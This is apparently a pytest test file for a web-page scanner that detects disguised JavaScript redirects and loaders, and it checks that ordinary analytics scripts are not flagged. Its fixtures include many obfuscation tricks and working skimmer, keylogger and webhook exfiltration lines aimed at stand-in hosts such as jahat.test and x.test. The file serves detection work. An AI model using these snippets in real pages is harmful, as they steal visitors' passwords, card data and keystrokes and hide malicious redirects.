"""What scripts decode, write, load and move to, read from their text."""

from __future__ import annotations

from base64 import b64encode
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cyberscan.parse.scripts.script import (
    DECODED_CHARACTERS,
    MOST_HOSTS,
    SNIPPET_CHARACTERS,
    moves,
    read,
    writes,
)

URL = "https://jahat.test/a.js"


def b64(text: str, layers: int = 1) -> str:
    for _ in range(layers):
        text = b64encode(text.encode()).decode()
    return text


def codes(text: str, offset: int = 0, form: str = "{}") -> str:
    return ",".join(form.format(ord(c) + offset) for c in text)


def hexed(text: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in text)


def unicoded(text: str) -> str:
    return "".join(f"\\u{ord(c):04x}" for c in text)


def octal(text: str) -> str:
    return "".join(f"\\{ord(c):03o}" for c in text)


def percent(text: str) -> str:
    return "".join(f"%{ord(c):02x}" for c in text)


def pieces(text: str, size: int = 3) -> list[str]:
    return [text[n : n + size] for n in range(0, len(text), size)]


def packed(payload: str, words: list[str], base: int = 62) -> str:
    listed = "|".join(words)
    return (
        "eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};"
        "if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}"
        "k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};"
        "while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}"
        f"('{payload}',{base},{len(words)},'{listed}'.split('|'),0,{{}}))"
    )


# ECMA-262 (escapes of strings, B.2.1.2 unescape, fromCharCode) and WHATWG Infra (forgiving base64):
# every way of writing the address, as an expression.
DISGUISED = {
    "atob": f"atob('{b64(URL)}')",
    "atob twice": f"atob(atob('{b64(URL, 2)}'))",
    "atob four times": f"atob(atob(atob(atob('{b64(URL, 4)}'))))",
    "atob of the window": f"window.atob('{b64(URL)}')",
    "atob by its name": f"window['atob']('{b64(URL)}')",
    "atob by its name in pieces": f"window['at'+'ob']('{b64(URL)}')",
    "atob by an escaped name": f"self['\\x61\\x74\\x6f\\x62']('{b64(URL)}')",
    "atob without padding": f"atob('{b64(URL).rstrip('=')}')",
    "atob of pieces": "atob(" + "+".join(f"'{p}'" for p in pieces(b64(URL))) + ")",
    "atob of a name": f"atob(verborgen)/* verborgen = '{b64(URL)}' */",
    "atob reversed": f"atob('{b64(URL)[::-1]}'.split('').reverse().join(''))",
    "fromCharCode": f"String.fromCharCode({codes(URL)})",
    "fromCharCode in hexadecimal": f"String.fromCharCode({codes(URL, form='0x{:x}')})",
    "fromCharCode with sums": f"String.fromCharCode({codes(URL, -7, '{}+7')})",
    "fromCharCode by apply": f"String.fromCharCode.apply(null,[{codes(URL)}])",
    "fromCharCode by apply of String": f"String.fromCharCode.apply(String,[{codes(URL)}])",
    "fromCharCode spread": f"String.fromCharCode(...[{codes(URL)}])",
    "fromCharCode by its name": f"String['fromCharCode']({codes(URL)})",
    "fromCharCode one by one": "+".join(f"String.fromCharCode({ord(c)})" for c in URL),
    "map": f"[{codes(URL)}].map(function(c){{return String.fromCharCode(c)}}).join('')",
    "map with an offset": f"[{codes(URL, 3)}].map(c=>String.fromCharCode(c-3)).join('')",
    "map with xor": "[" + ",".join(str(ord(c) ^ 5) for c in URL)
    + "].map(function(c){return String.fromCharCode(c^5)}).join('')",
    "map of letters": "'" + "".join(chr(ord(c) + 1) for c in URL)
    + "'.split('').map(c=>String.fromCharCode(c.charCodeAt(0)-1)).join('')",
    "hexadecimal escapes": f"'{hexed(URL)}'",
    "unicode escapes": f"'{unicoded(URL)}'",
    "octal escapes": f"'{octal(URL)}'",
    "escapes in a template": f"`{hexed(URL)}`",
    "unescape": f"unescape('{percent(URL)}')",
    "unescape of %u": "unescape('" + "".join(f"%u{ord(c):04x}" for c in URL) + "')",
    "decodeURIComponent": f"decodeURIComponent('{percent(URL)}')",
    "reversed": f"'{URL[::-1]}'.split('').reverse().join('')",
    "a reversed list": "[" + ",".join(f"'{p}'" for p in pieces(URL)[::-1])
    + "].reverse().join('')",
    "an entry of a list": f"['x','{hexed(URL)}'][1]",
    "brackets": f"(('{hexed(URL)}'))",
    "with replaced marks": "'" + hexed(URL.replace("a", "@@")) + "'.replace(/@@/g,'a')",
    "concat": f"'{hexed(URL[:9])}'.concat('{hexed(URL[9:])}')",
    "slice": f"'{hexed('xx' + URL)}'.slice(2)",
}  # fmt: skip

# What an address can be used for.
USES = {
    "location": "window.location={};",
    "location.href": "location.href = {};",
    "top.location": "top.location.href={}",
    "document.location": "document.location={}",
    "location.replace": "window.location.replace({})",
    "location.assign": "location.assign({})",
    "window.open": "window.open({})",
    "by names in brackets": "window['location']['href']={}",
    "at once": "(function(){{location={}}})()",
    "by an arrow": "(()=>{{location={}}})()",
    "negated": "!function(){{location={}}}()",
    "ready": "$(document).ready(function(){{location={}}})",
    "jQuery": "jQuery(function($){{location.href={}}})",
    "DOMContentLoaded": "document.addEventListener('DOMContentLoaded',function(){{location={}}})",
    "onload": "window.onload=function(){{location={}}}",
    "setTimeout": "setTimeout(function(){{location={}}},500)",
    "a name that is called": "function go(){{location={}}} go();",
    "a name that is handed on": "function go(){{location={}}} setTimeout(go,9)",
    "a variable": "var u={};location=u;",
}

LOADS = {
    "a script element": "var s=document.createElement('script');s.src={};document.body.append(s)",
    "setAttribute": "var s=document.createElement('script');s.setAttribute('src',{});",
    "a frame": "var f=document.createElement('iframe');f.src={};document.body.appendChild(f)",
    "by brackets": "var d=document,s=d['createElement']('script');s['src']={};",
    "getScript": "$.getScript({})",
    "import": "import({})",
    "eval of a name": "var u={};var s=document.createElement('script');s.src=u",
}


def statement(expression: str, template: str) -> str:
    setting = f"var verborgen='{b64(URL)}';" if "verborgen" in expression else ""
    return setting + template.format(expression)


@pytest.mark.parametrize("use", USES)
@pytest.mark.parametrize("how", DISGUISED)
def test_a_move_to_an_address_in_disguise_is_seen(how: str, use: str) -> None:
    source = statement(DISGUISED[how], USES[use])
    assert moves(source) == (URL,)
    code = read(source, "script")
    assert code is not None
    assert "location" in code.traits
    assert "disguised" in code.traits
    assert code.decoded.startswith(URL)
    assert "jahat.test" in code.hosts


@pytest.mark.parametrize("use", LOADS)
@pytest.mark.parametrize("how", DISGUISED)
def test_a_loader_of_an_address_in_disguise_is_seen(how: str, use: str) -> None:
    code = read(statement(DISGUISED[how], LOADS[use]), "script")
    assert code is not None
    assert {"loader", "disguised"} <= set(code.traits)
    assert "jahat.test" in code.hosts


@pytest.mark.parametrize("use", USES)
def test_a_move_in_the_clear_is_seen_and_not_called_disguised(use: str) -> None:
    source = USES[use].format(f"'{URL}'")
    assert moves(source) == (URL,)
    code = read(source, "script")
    assert code is not None
    assert "disguised" not in code.traits


INNER = f"var s=document.createElement('script');s.src='{URL}';document.head.appendChild(s)"


@pytest.mark.parametrize(
    "outer",
    [
        "eval({})",
        "window.eval({})",
        "(new Function({}))()",
        "setTimeout({},10)",
        "var a={};eval(a)",
        "eval(eval({}))",
    ],
)
@pytest.mark.parametrize(
    "inner",
    [
        f"atob('{b64(INNER)}')",
        f"String.fromCharCode({codes(INNER)})",
        f"unescape('{percent(INNER)}')",
        f"decodeURIComponent('{percent(INNER)}')",
        f'"{hexed(INNER)}"',
    ],
)
def test_a_script_inside_a_script_is_read(outer: str, inner: str) -> None:
    source = outer.format(inner)
    if outer.startswith("setTimeout") and not inner.startswith('"'):
        source = f"eval({inner})"
    code = read(source, "script")
    assert code is not None
    assert {"loader", "disguised"} <= set(code.traits)
    assert writes(source).count("jahat.test") == 1


def test_loops_that_undo_an_offset_are_read() -> None:
    listed = codes(f"location.href='{URL}'", 3)
    for loop in (
        "var s='';for(var i=0;i<x.length;i++){s+=String.fromCharCode(x[i]-3)};eval(s)",
        "var s='',i;for(i=0;i<x.length;i++)s+=String.fromCharCode(x[i]-3);eval(s)",
    ):
        assert moves(f"var x=[{listed}];{loop}") == (URL,)


def test_lists_of_names_are_put_in_place() -> None:
    source = (
        f'var _0xa1=["{hexed("script")}","{hexed("createElement")}","{hexed("src")}",'
        f'"{hexed(URL)}"];var s=document[_0xa1[1]](_0xa1[0]);s[_0xa1[2]]=_0xa1[3];'
    )
    code = read(source, "script")
    assert code is not None
    assert {"disguised", "hex-escapes", "loader"} <= set(code.traits)


# http://dean.edwards.name/packer/
@pytest.mark.parametrize(
    ("payload", "words", "base"),
    [
        ('0.1="2://3.4/5.6"', ["location", "href", "https", "jahat", "test", "a", "js"], 62),
        ('0.1="2://3.4/a.js"', ["location", "href", "https", "jahat", "test"], 5),
        ('location.0="https://1.test/a.js"', ["href", "jahat"], 36),
    ],
)
def test_packed_scripts_are_unpacked(payload: str, words: list[str], base: int) -> None:
    source = packed(payload, words, base)
    assert moves(source) == (URL,)
    code = read(source, "script")
    assert code is not None
    assert {"eval", "packed"} <= set(code.traits)
    assert "disguised" not in code.traits


@pytest.mark.parametrize(
    "source",
    [
        "document.write('<b>hai</b>')",
        "document.writeln('<b>','hai</b>')".replace("','", ""),
        'document["write"]("<b>hai</b>")',
        "x.innerHTML='<b>'+'hai'+'</b>'",
        "document.getElementById('a').innerHTML += '<b>hai</b>'",
        "x.outerHTML = `<b>hai</b>`",
        "x.insertAdjacentHTML('beforeend','<b>hai</b>')",
        "$('#a').append('<b>hai</b>')",
        "$('#a').html('<b>hai</b>')",
        f"document.write(atob('{b64('<b>hai</b>')}'))",
        f"document.write(unescape('{percent('<b>hai</b>')}'))",
        f"document.write(String.fromCharCode({codes('<b>hai</b>')}))",
        f"eval(atob('{b64('document.write(' + chr(39) + '<b>hai</b>' + chr(39) + ')')}'))",
        "var h='<b>';h+='hai';h+='</b>';document.write(h)",
        "var h=['<b>','hai','</b>'].join('');document.write(h)",
    ],
)
def test_what_a_script_writes_is_returned(source: str) -> None:
    assert "<b>hai</b>" in writes(source)


def test_unknown_parts_are_left_out_of_what_is_written() -> None:
    assert writes("document.write('<a href=\"' + url + '\">baca</a>')") == '<a href="">baca</a>'


def test_links_and_scripts_that_are_made_come_as_their_tags() -> None:
    source = "var a=document.createElement('a');a.href='https://x.test/?a=1&b=2';"
    assert writes(source) == '<a href="https://x.test/?a=1&amp;b=2"></a>'
    assert writes(LOADS["a frame"].format("'https://x.test/'")) == (
        '<iframe src="https://x.test/"></iframe>'
    )


# What waits for the visitor moves nobody when the page loads.
@pytest.mark.parametrize(
    "source",
    [
        f"function go(){{location='{URL}'}}",
        f"el.onclick=function(){{location='{URL}'}}",
        f"el.addEventListener('click',function(){{location='{URL}'}})",
        f"el.addEventListener('click',()=>{{location='{URL}'}})",
        f"$('#b').click(function(){{location.href='{URL}'}})",
        f"$('#b').on('click','a',function(){{location.href='{URL}'}})",
        f"var o={{go:function(){{location='{URL}'}}}}",
        f"var o={{go(){{location='{URL}'}}}}",
        f"class A{{go(){{location='{URL}'}}}}",
        f"function a(){{window.open('{URL}')}}",
        "if(top!=self)top.location=self.location",
        "if(self!==top){top.location.href=self.location.href}",
        "location.reload()",
        "window.location.hash='#atas'",
        "location.href='#atas'",
        "location.href='javascript:void(0)'",
        "location='mailto:a@b.test'",
        "var location_id='https://x.test/'",
        "x.addEventListener('submit',function(e){location='/cari?q='+q})",
        "location.href=data.url",
        "window.open()",
    ],
)
def test_these_move_nobody_at_load(source: str) -> None:
    assert moves(source) == ()


@pytest.mark.parametrize(
    ("source", "conditional"),
    [
        ("if(document.referrer.match('google'))location='{}'", True),
        ("if(document.referrer){{location='{}'}}", True),
        ("if(a){{}}else{{location='{}'}}", True),
        ("a&&(location='{}')", False),
        ("if(a)b();location='{}'", False),
        ("location='{}'", False),
        ("$(function(){{if(a){{location='{}'}}}})", True),
        ("if(a){{$(function(){{location='{}'}})}}", True),
    ],
)
def test_moves_behind_a_test_are_told_apart(source: str, conditional: bool) -> None:
    code = read(source.format(URL), "script")
    assert code is not None
    assert ("conditional" in code.traits) is conditional


# Scripts of honest pages: none of them hides an address it loads or moves to.
HONEST = {
    "Google Tag Manager": "(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date()"
    ".getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s);"
    "j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i;"
    "f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-1');",
    "Analytics": "window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}"
    "gtag('js',new Date());gtag('config','G-1');",
    "old Analytics": "var gaJsHost=(('https:'==document.location.protocol)?'https://ssl.':"
    "'http://www.');document.write(unescape(\"%3Cscript src='\"+gaJsHost+"
    "\"google-analytics.com/ga.js'%3E%3C/script%3E\"));",
    "a counter": "document.write(unescape(\"%3Cscript src='https://hitung.test/c.js'%3E"
    '%3C/script%3E"))',
    "Matomo": "var _paq=window._paq||[];(function(){var u='//statistik.contoh.go.test/';"
    "var d=document,g=d.createElement('script'),s=d.getElementsByTagName('script')[0];"
    "g.async=true;g.src=u+'matomo.js';s.parentNode.insertBefore(g,s)})();",
    "Facebook": "!function(f,b,e,v,n,t,s){if(f.fbq)return;n=f.fbq=function(){};t=b.createElement(e)"
    ";t.async=!0;t.src=v;s=b.getElementsByTagName(e)[0];s.parentNode.insertBefore(t,s)}(window,"
    "document,'script','https://connect.facebook.net/en_US/fbevents.js');fbq('init','1');",
    "tawk": "var Tawk_API=Tawk_API||{};(function(){var s1=document.createElement('script');"
    "s1.async=true;s1.src='https://embed.tawk.to/1/default';document.head.append(s1)})();",
    "fallback": "window.jQuery||document.write('<script src=\"/js/jquery.min.js\"><\\/script>')",
    "emoji": "window._wpemojiSettings={\"baseUrl\":\"https:\\/\\/s.w.org\\/images\\/\"};"
    "!function(e,n){var t=String.fromCharCode;function i(e){var t=n.createElement('script');"
    "t.src=e;t.defer=t.type='text/javascript';n.head.appendChild(t)}"
    "p([55356,56826,55356,56819],[55356,56826,8203,55356,56819])}(window,document);",
    "JSON": 'self.__next_f.push([1,"\\u003cdiv\\u003e\\u0026amp;\\u003c/div\\u003e https://x.test"])',
    "Livewire": 'window.livewire_token="abc";window.Livewire={"a":"\\u003Cb\\u003E"};'
    "document.addEventListener('DOMContentLoaded',function(){window.livewire.start()})",
    "settings": f"var c=JSON.parse(atob('{b64('{' + chr(34) + 'api' + chr(34) + ':1}')}'))",
    "a mail address": "document.write('<a href=\"mailto:'+String.fromCharCode("
    + codes("dinas@contoh.go.test") + ")+'\">surel</a>')",
    "Joomla mail": "document.getElementById('c').innerHTML='';var prefix='&#109;a'+'i&#108;'+"
    "'&#116;o';var path='hr'+'ef'+'=';var addy1='&#100;inas'+'&#64;';addy1=addy1+'contoh'+"
    "'&#46;go';document.getElementById('c').innerHTML+='<a '+path+'\\''+prefix+':'+addy1+"
    "'\\'>'+addy1+'<\\/a>';",
    "a frame buster": "if(top!=self){top.location=self.location}",
    "to the mobile site": "if(/Android|iPhone/i.test(navigator.userAgent))"
    "{window.location='https://m.contoh.go.test/'}",
    "a login form": "$('#f').submit(function(){$.post('/masuk',$(this).serialize())})",
    "a search box": "$('#q').on('keyup',function(){fetch('/cari?q='+this.value)})",
    "lazy pictures": "document.querySelectorAll('img[data-src]').forEach(function(i){"
    "i.src=i.dataset.src})",
    "a packed slider": packed("$.0.1=2(){3.4('<5>')}", ["fn", "geser", "function", "document",
                                                       "body", "div"]),
    "Cloudflare": "(function(){var a=document.createElement('iframe');a.height=1;a.width=1;"
    "a.style.position='absolute';document.body.appendChild(a);"
    "var c=a.contentDocument.createElement('script');c.innerHTML=\"window.__CF$cv$params={r:'1'}\""
    "})();",
    "an advertisement test": "var t=document.createElement('div');t.className='adsbox';"
    "document.body.append(t);if(t.offsetHeight===0){document.body.innerHTML+='<p>Mohon'+"
    "' matikan</p>'}",
    "percent escapes in an address": "location.href=decodeURIComponent('%2Fberanda%3Fa%3D1')",
}  # fmt: skip


@pytest.mark.parametrize("name", HONEST)
def test_honest_scripts_disguise_nothing(name: str) -> None:
    code = read(HONEST[name], "script")
    if code is not None:
        assert not {"disguised", "disguised-sends", "miner", "hook", "unreadable"} & set(
            code.traits
        )


@pytest.mark.parametrize(
    ("source", "traits"),
    [
        ("var m=new CoinHive.Anonymous('k');m.start()", {"miner"}),
        ("new CryptoLoot.User('k')", {"miner"}),
        ("document.onkeypress=function(e){fetch('https://x.test/?'+e.key)}", {"keys", "sends"}),
        (
            "document.addEventListener('keydown',e=>{new Image().src='https://x.test/?k='+e.key})",
            {"keys", "sends"},
        ),
        (
            (
                "var p=document.querySelector('input[type=password]').value;"
                "navigator.sendBeacon('https://x.test/',p)"
            ),
            {"fields", "secrets", "sends"},
        ),
        (
            (
                "var x=new XMLHttpRequest();x.open('POST','https://x.test/');"
                "x.send($('[name=cardnumber]').val())"
            ),
            {"fields", "secrets", "sends"},
        ),
        (
            (
                "fetch('https://api.telegram.org/bot123456:AAAAAAAAAAAAAAAAAAAAAAAAA/sendMessage',"
                "{body:document.f.pin.value})"
            ),
            {"fields", "hook", "sends"},
        ),
        ("$.post('https://discord.com/api/webhooks/1/a',$('#f').serialize())", {"hook"}),
        ("eval(location.hash.slice(1))", {"eval"}),
        ("[]()!+" * 60 + ";eval", {"unreadable"}),
        (";".join(f"var _0x{n:04x}=1" for n in range(20)) + ";eval(a)", {"eval", "unreadable"}),
    ],
)
def test_traits(source: str, traits: set[str]) -> None:
    code = read(source, "body > script")
    assert code is not None
    assert traits <= set(code.traits)
    assert code.selector == "body > script"
    assert code.length == len(source)


def test_an_address_in_disguise_that_takes_what_is_typed() -> None:
    code = read(f"fetch(atob('{b64(URL)}'),{{body:document.f.cvv.value,n:'cvv'}})", "s")
    assert code is not None
    assert {"disguised-sends", "fields", "secrets", "sends"} <= set(code.traits)


def test_personal_data_and_keys_to_chats_are_masked() -> None:
    source = (
        "eval('1');var a='budi@contoh.test 3578012501900003';"
        "fetch('https://api.telegram.org/bot1234567890:AAbbCCddEEffGGhhIIjjKKllMM/send')"
    )
    code = read(source, "s")
    assert code is not None
    shown = code.snippet + code.decoded
    assert "budi@" not in shown
    assert "3578012501900003" not in shown
    assert "AAbbCCdd" not in shown


@pytest.mark.parametrize("source", ["", " ", "var a=1;", "jQuery(function(){})", "a.b.c()", "}{)("])
def test_scripts_without_anything_of_note(source: str) -> None:
    assert read(source, "s") is None
    assert moves(source) == ()
    assert writes(source) == ""


# Tokens any of which can stand anywhere: the readers must take all of it.
_PIECES = st.sampled_from(
    ["eval(", "atob(", "String.fromCharCode(", "'aGFp'", '"', "'", "`", "${", "\\x41", "\\", "/*",
     "//", "\n", "(", ")", "[", "]", "{", "}", "=", "+", "+=", "function", "=>", "location",
     ".href",
     "document.write(", "<script>", "</script>", "104", "0x", ",", ";", ".split('')", ".reverse()",
     ".join('')", ".map(c=>", "c-3", "if(", "else", "a", "/[", "/", "unescape(", "%u0041", "\ud83d",
     "\x00", "…", "_0x12", "createElement('script')", ".src=", "window.open("]
)  # fmt: skip


@given(st.lists(_PIECES, max_size=60).map("".join) | st.text(max_size=400))
def test_any_text_is_read_within_bounds(source: str) -> None:
    code = read(source, "s")
    assert len(moves(source)) <= 20
    assert len(writes(source)) <= 20_000
    for text in (*moves(source), writes(source)):
        text.encode()
    if code is not None:
        assert len(code.snippet) <= SNIPPET_CHARACTERS
        assert len(code.decoded) <= DECODED_CHARACTERS
        assert len(code.hosts) <= MOST_HOSTS
        assert list(code.traits) == sorted(set(code.traits))
        (code.snippet + code.decoded).encode()
        assert read(source, "s") == code


@given(st.text(min_size=1, max_size=60))
def test_what_is_written_in_disguise_is_what_is_written_in_the_clear(text: str) -> None:
    html = f"<b>{''.join(c for c in text if c.isalnum() and c.isascii())}</b>"
    for form in (
        f"atob('{b64(html)}')",
        f"String.fromCharCode({codes(html)})",
        f"'{hexed(html)}'",
        f"decodeURIComponent('{quote(html)}')",
    ):
        assert writes(f"document.write({form})") == html


_MIB = 1_000_000


@pytest.mark.parametrize(
    "unit",
    [
        "(", "[", "{", "atob(", "String.fromCharCode(", "[1,", "'a'+", "a=a+a;", '"\\"', "'", "`${",
        "/[", "/*", "document.write('<script ')", "x.innerHTML='<b>'+", "location='https://a.b/'+",
        "location=a?", "function a(){location='x';", "(()=>{location='x';", "a(){location",
        "eval(function(p,a,c,k,e,d){}('", "a=['x'];b[a[0]]=1;",
        "a.map(c=>String.fromCharCode(c^5));",
        "s+=String.fromCharCode(a[i]-3);", "document.createElement('script').src=", "\\x41",
        "'//a.b/'", "a.", "_0xab ", "[]()!+", "\x00", "['ab'].join(", "eval('eval(1)');", "$('<",
        "a.replace(/x/g,'yy');", "if(a)", "=>", "else ", "setTimeout('",
        "document.referrer;", "new Image().src=", "(function(a){", "(function(a,b){})('x',1);",
        "function f(a){return ''+f(a)}f('x');", "f=a=>''+", "`${a}`+", "a[['x','y'].join('')]=1;",
        "history.pushState(1);", "localStorage.a=1;", "$('<iframe>',{src:'//a.b/'});",
        "new WebSocket('wss://a.b/');Worker;", "new A.User('',{threads:1});", "aHR0c", "[104,116,",
        "document.onclick=function(){location='//a.b/'};", "r+=String.fromCharCode(a[i]^a[i]);",
        "s.src='data:text/javascript,';", "location='//'+a+'.b/';", "currentScript.remove();",
    ],
)  # fmt: skip
def test_a_mebibyte_of_anything_is_read_to_its_end(unit: str) -> None:
    source = "var a='atob';location;" + unit * (_MIB // len(unit))
    read(source, "s")
    moves(source)
    writes(source)


@pytest.mark.parametrize(
    ("source", "named"),
    [
        ("if(/google|bing/.test(document.referrer))location='{}'", True),
        ("var s=['yahoo.'];if(document.referrer.indexOf(s[0])>0)location='{}'", True),
        ("if(document.referrer=='')location='{}'", False),
        ("g('https://www.google-analytics.com/a');if(document.referrer)location='{}'", False),
        ("g('https://www.googletagmanager.com/');if(document.referrer)location='{}'", False),
    ],
)
def test_search_engines_beside_the_referrer_are_told(source: str, named: bool) -> None:
    code = read(source.format(URL), "script")
    assert code is not None
    assert "referrer" in code.traits
    assert ("engines" in code.traits) is named


LOADED = "var s=document.createElement('script');s.src={};document.head.appendChild(s)"
WAYS = {
    # Another name for the decoder, or a function of one's own.
    "alias": f"var a=atob;{LOADED.format(f'a({b64(URL)!r})')}",
    "alias of a member": f"var a=window.atob;{LOADED.format(f'a({b64(URL)!r})')}",
    "arrow": f"const d=x=>atob(x);{LOADED.format(f'd({b64(URL)!r})')}",
    "arrow with a block": f"const d=(x)=>{{return atob(x)}};{LOADED.format(f'd({b64(URL)!r})')}",
    "function": "function r(s){return s.split('').reverse().join('')}"
    + LOADED.format(f"r({URL[::-1]!r})"),
    "letter by letter": "function x(s){var r='';for(var i=0;i<s.length;i++)"
    "r+=String.fromCharCode(s.charCodeAt(i)^3);return r}"
    + LOADED.format("x('" + "".join(f"\\x{ord(c) ^ 3:02x}" for c in URL) + "')"),
    "a key": "var k='wxyz',t='"
    + "".join(f"\\x{ord(c) ^ ord('wxyz'[n % 4]):02x}" for n, c in enumerate(URL))
    + "',r='';for(var i=0;i<t.length;i++){r+=String.fromCharCode(t.charCodeAt(i)^"
    "k.charCodeAt(i%k.length))}" + LOADED.format("r"),
    # Hexadecimal, cut in pairs.
    "pairs by match": "function u(h){return h.match(/.{1,2}/g).map(c=>String.fromCharCode("
    "parseInt(c,16))).join('')}" + LOADED.format(f"u({URL.encode().hex()!r})"),
    "pairs by replace": LOADED.format(
        f"{URL.encode().hex()!r}.replace(/../g,function(c){{return String.fromCharCode("
        "parseInt(c,16))})"
    ),
    # Names given by a call, by another window, by lists.
    "window by another name": f"(function(w,d,u){{var s=d.createElement('script');s.src=w.atob(u);"
    f"d.head.appendChild(s)}})(window,document,{b64(URL)!r})",
    "names in a list": f"var p=[{b64(URL)!r},'createElement','script','src'];"
    "var s=document[p[1]](p[2]);s[p[3]]=atob(p[0]);document.head.appendChild(s)",
    "joined name": "(function(d){var s=d[['create','Element'].join('')]('script');"
    f"s.src=self[['at','ob'].join('')]({b64(URL)!r})}})(document)",
    "reversed by a list of names": "var n=['\\x73\\x70\\x6c\\x69\\x74','reverse','join'];"
    + LOADED.format(f"{URL[::-1]!r}[n[0]]('')[n[1]]()[n[2]]('')"),
    "names by a function": "var q=['pt','scri','ment','Ele','ate','cre'],z=function(a,b){return q"
    ".slice(a,b).reverse().join('')};var s=document[z(2,6)](z(0,2));"
    f"s.src='{URL[::-1]}'.split('').reverse().join('')",
    "letters of another name": "var f=String.fromCharCode,"
    + LOADED.format(f"f({codes(URL)})").removeprefix("var "),
    "letters of another name by apply": "var f=String.fromCharCode;"
    + LOADED.format(f"f.apply(null,[{codes(URL)}])"),
    "an object that is handed over": f"var o={{u:'{b64(URL)}',n:1}};(function(p){{"
    + LOADED.format("atob(p.u)")
    + "})(o)",
    "an object in the call": "(function(p){"
    + LOADED.format("atob(p.u)")
    + f"}})({{u:'{b64(URL)}'}})",
    # The owner cannot be read in the source.
    "sum": LOADED.format("'https://jahat.'+'te'+'st/a.js'"),
    "list": LOADED.format("['https:/','/jaha','t.tes','t/a.js'].join('')"),
    "a call in a template": LOADED.format(f"`${{atob({b64(URL)!r})}}`"),
    "a call between others": LOADED.format(f"`${{atob({b64(URL)!r})}}?v=${{Date.now()}}`"),
    "a call in written HTML": f"document.write(`<script src='${{atob({b64(URL)!r})}}'></script>`)",
    "a sum in a template": LOADED.format("`https://ja${'hat.'+'te'}st/a.js`"),
    "template": "const p='hat.te';" + LOADED.format("`https://ja${p}st/a.js`"),
    "location by another name": f"(function(l,u){{l.href=u}})(location,atob({b64(URL)!r}))",
    "location in base64": f"window[atob({b64('location')!r})]=atob({b64(URL)!r})",
    "a data URL": LOADED.format(f"'data:text/javascript;base64,{b64(f'location.href={URL!r}')}'"),
}


@pytest.mark.parametrize("name", WAYS)
def test_other_ways_to_an_address_in_disguise(name: str) -> None:
    code = read(WAYS[name], "s")
    assert code is not None
    assert {"disguised"} & {*code.traits}
    assert {"loader", "location"} & {*code.traits}
    assert "jahat.test" in code.hosts


@pytest.mark.parametrize(
    "source",
    [
        # The owner stands in the source: concatenation has its own reasons.
        "var h='jahat.test';" + LOADED.format("'https://cdn.'+h+'/a.js'"),
        LOADED.format(
            "('https:'==location.protocol?'https://ssl':'http://www')+'.jahat.test/g.js'"
        ),
        LOADED.format(r"'https:\\/\\/cdn.jahat.test\\/a.js'"),
        LOADED.format("`https://jahat.test/${bahasa.kode||'id'}/a.js`"),
        LOADED.format("`https://${daerah.sub}.jahat.test/a.js?${f({a:1})}`"),
        LOADED.format(r"'https://my\\u002Dcdn.test/a.js'"),
        (
            "(function(w,d,s,l,i){var j=d.createElement(s);j.src='https://jahat.test/gtm.js?id='+i})"
            "(window,document,'script','dataLayer','X-1')"
        ),
    ],
)
def test_addresses_in_the_clear_are_not_called_disguised(source: str) -> None:
    code = read(source, "s")
    assert code is not None
    assert "disguised" not in code.traits


SPELT = {
    "base64 in an object": f"var o={{u:{b64(URL)!r},f(x){{return atob(x)}}}};"
    + LOADED.format("o.f(o.u)"),
    "numbers in a loop": f"var u='';[{codes(URL)}].forEach(function(c)"
    "{u+=String.fromCharCode(c)});" + LOADED.format("u"),
    "moved numbers": f"var u='';for(const c of [{codes(URL, 9)}])u+=f(c);" + LOADED.format("u"),
    "changed numbers": "var n=[" + ",".join(str(ord(c) ^ 90) for c in URL) + "];"
    + LOADED.format("g(n)"),
    "hexadecimal": LOADED.format(f"h({URL.encode().hex()!r})"),
    "backwards": LOADED.format(f"h({URL[::-1]!r})"),
}  # fmt: skip


@pytest.mark.parametrize("name", SPELT)
def test_constants_that_spell_an_address_are_decoded(name: str) -> None:
    code = read(SPELT[name], "s")
    assert code is not None
    assert "jahat.test" in code.decoded


@pytest.mark.parametrize(
    "source",
    [
        "var n=[104,116,116,112];" + LOADED.format("n"),
        "var n=[12,24,24,20,31,18,9,7,5,3,2,1];" + LOADED.format("n"),
        f"var j={b64('{url:1}')!r};" + LOADED.format("j"),
        "var h='68747470';" + LOADED.format("h"),
        "var s='bukan alamat';" + LOADED.format("s"),
    ],
)
def test_other_constants_spell_nothing(source: str) -> None:
    code = read(source, "s")
    assert code is not None
    assert code.decoded == ""


@pytest.mark.parametrize(
    ("source", "traits"),
    [
        ("document.onclick=function(){window.open('https://a.test/')}", {"anywhere"}),
        ("$(document).on('click',function(){location='https://a.test/'})", {"anywhere"}),
        ("addEventListener('scroll',()=>{location='https://a.test/'})", {"anywhere"}),
        ("onpopstate=function(){location='https://a.test/'}", {"back"}),
        ("if(!localStorage.x){localStorage.x=1;location='https://a.test/'}", {"once"}),
        ("document.cookie='a=1';location='https://a.test/'", {"once", "cookie"}),
        ("if(screen.width<600)location='https://a.test/'", {"screen", "conditional"}),
        ("history.pushState(1,'','/');location='https://a.test/'", {"history"}),
        ("fetch('https://a.test/').then(r=>r.text()).then(eval)", {"runs"}),
        ("fetch('https://a.test/',{mode:'no-cors',body:f.value})", {"blind"}),
        ("eval(atob(document.getElementById('a').dataset.b))", {"held"}),
        ("eval(atob(this.alt))", {"held"}),
        ("new Function(unescape(x.title))()", {"held"}),
        ("var t=localStorage.getItem('a');eval(atob(t))", {"stored"}),
        (f"{INNER};document.currentScript.remove()", {"erases"}),
    ],
)
def test_traits_of_traps(source: str, traits: set[str]) -> None:
    code = read(source, "s")
    assert code is not None
    assert traits <= {*code.traits}


@pytest.mark.parametrize(
    "source",
    [
        # What waits for its own button, and old ways to read JSON.
        "document.getElementById('a').onclick=function(){window.open('https://a.test/')}",
        "$('#a').on('click',function(){location='https://a.test/'})",
        "$(document).on('click','#a',function(){location='https://a.test/'})",
    ],
)
def test_a_button_of_its_own_moves_nobody(source: str) -> None:
    assert moves(source) == ()


def test_json_that_is_evaluated_is_data() -> None:
